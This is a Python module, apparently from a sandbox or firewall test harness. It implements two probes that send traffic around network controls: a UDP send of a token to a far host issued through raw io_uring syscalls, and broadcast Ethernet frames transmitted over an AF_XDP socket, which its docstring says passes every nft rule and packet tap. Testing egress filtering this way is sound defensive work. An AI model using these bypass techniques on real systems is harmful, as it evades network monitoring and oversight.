"""Rings of memory shared with the kernel: io_uring, and AF_XDP, which passes every nft hook and every tap."""

from __future__ import annotations

import ctypes
import errno
import mmap
import os
import socket
import struct
from typing import TYPE_CHECKING

from sidecar.prove.attacks.sockets import DISCARD, udp
from sidecar.prove.catalogue import NET_RAW, attack, note
from sidecar.prove.wire import BROADCAST, IPV4, ether, packet

if TYPE_CHECKING:
    from sidecar.prove.scene import Scene

_libc = ctypes.CDLL(None, use_errno=True)

# Source: <linux/io_uring.h>, <asm/unistd.h>: the two numbers are the same on every architecture.
SYS_IO_URING_SETUP, SYS_IO_URING_ENTER = 425, 426
IORING_OP_SEND, IORING_ENTER_GETEVENTS = 26, 1
SQES_AT = 0x10000000
SQ_OFFSETS, CQ_OFFSETS = 40, 80  # in struct io_uring_params
SQE_BYTES = 64


@attack()
def udp_by_io_uring(scene: Scene) -> None:
    """UDP sent by io_uring, bound to the uplink."""
    parameters = ctypes.create_string_buffer(120)
    ring = _libc.syscall(SYS_IO_URING_SETUP, 1, parameters)
    if ring < 0:
        raise OSError(ctypes.get_errno(), "io_uring_setup")
    try:
        with udp(scene) as opened:
            opened.connect((str(scene.far4), DISCARD))
            _submit(ring, parameters.raw, opened.fileno(), scene.token)
    finally:
        os.close(ring)


def _submit(ring: int, parameters: bytes, descriptor: int, payload: bytes) -> None:
    """Have the kernel send `payload`, and note what became of it."""
    _, tail, _, _, _, _, array = struct.unpack_from("=7I", parameters, SQ_OFFSETS)
    _, _, _, _, _, completions = struct.unpack_from("=6I", parameters, CQ_OFFSETS)
    buffer = ctypes.create_string_buffer(payload, len(payload))
    with mmap.mmap(ring, mmap.PAGESIZE) as queues, mmap.mmap(ring, SQE_BYTES, offset=SQES_AT) as requests:
        request = struct.pack("=BBHiQQI", IORING_OP_SEND, 0, 0, descriptor, 0, ctypes.addressof(buffer), len(payload))
        requests[: len(request)] = request
        queues[array : array + 4] = struct.pack("=I", 0)
        queues[tail : tail + 4] = struct.pack("=I", 1)
        if _libc.syscall(SYS_IO_URING_ENTER, ring, 1, 1, IORING_ENTER_GETEVENTS, None, 0) < 0:
            raise OSError(ctypes.get_errno(), "io_uring_enter")
        _, result = struct.unpack_from("=Qi", queues, completions)
        note(-result if result < 0 else 0)


# Source: <linux/if_xdp.h>; Documentation/networking/af_xdp.rst
AF_XDP, SOL_XDP = 44, 283
TX_RING, UMEM_REG, FILL_RING, COMPLETION_RING, MMAP_OFFSETS = 3, 4, 5, 6, 1
TX_RING_AT = 0x80000000
XDP_COPY = 1 << 1
CHUNK_BYTES, CHUNKS = 2048, 8
MAXIMUM_QUEUES = 64


@attack(needs=NET_RAW)
def frames_by_af_xdp(scene: Scene) -> None:
    """Frames by AF_XDP, which passes every rule and every tap."""
    frame = BROADCAST + scene.own_mac + ether(IPV4) + packet(scene)
    with socket.socket(AF_XDP, socket.SOCK_RAW) as raw, mmap.mmap(-1, CHUNK_BYTES * CHUNKS) as memory:
        first = ctypes.c_char.from_buffer(memory)
        try:
            registration = struct.pack("=QQII", ctypes.addressof(first), len(memory), CHUNK_BYTES, 0)
            raw.setsockopt(SOL_XDP, UMEM_REG, registration)
        finally:
            del first
        for ring in (FILL_RING, COMPLETION_RING, TX_RING):
            raw.setsockopt(SOL_XDP, ring, struct.pack("=i", CHUNKS))
        if _bind_anywhere(raw, socket.if_nametoindex(scene.device)):
            memory[: len(frame)] = frame
            _transmit(raw, len(frame))


def _bind_anywhere(raw: socket.socket, index: int) -> bool:
    """Bind to the first queue that is free; the last answer is noted where none is."""
    number = 0
    for queue in range(MAXIMUM_QUEUES):
        address = struct.pack("=HHIII", AF_XDP, XDP_COPY, index, queue, 0)
        if _libc.bind(raw.fileno(), address, len(address)) == 0:
            return True
        if ctypes.get_errno() == errno.EINVAL and queue > 0:  # beyond the last queue
            break
        number = ctypes.get_errno()
    note(number)
    return False


def _transmit(raw: socket.socket, length_bytes: int) -> None:
    """Hand one ring full of the same frame to the kernel."""
    offsets = struct.unpack("=16Q", raw.getsockopt(SOL_XDP, MMAP_OFFSETS, 128))
    producer, descriptors = offsets[4], offsets[6]
    with mmap.mmap(raw.fileno(), descriptors + 16 * CHUNKS, offset=TX_RING_AT) as ring:
        for slot in range(CHUNKS):
            ring[descriptors + 16 * slot : descriptors + 16 * slot + 16] = struct.pack("=QII", 0, length_bytes, 0)
        ring[producer : producer + 4] = struct.pack("=I", CHUNKS)
        try:
            raw.send(b"", socket.MSG_DONTWAIT)
        except OSError as error:
            note(error.errno or 0)
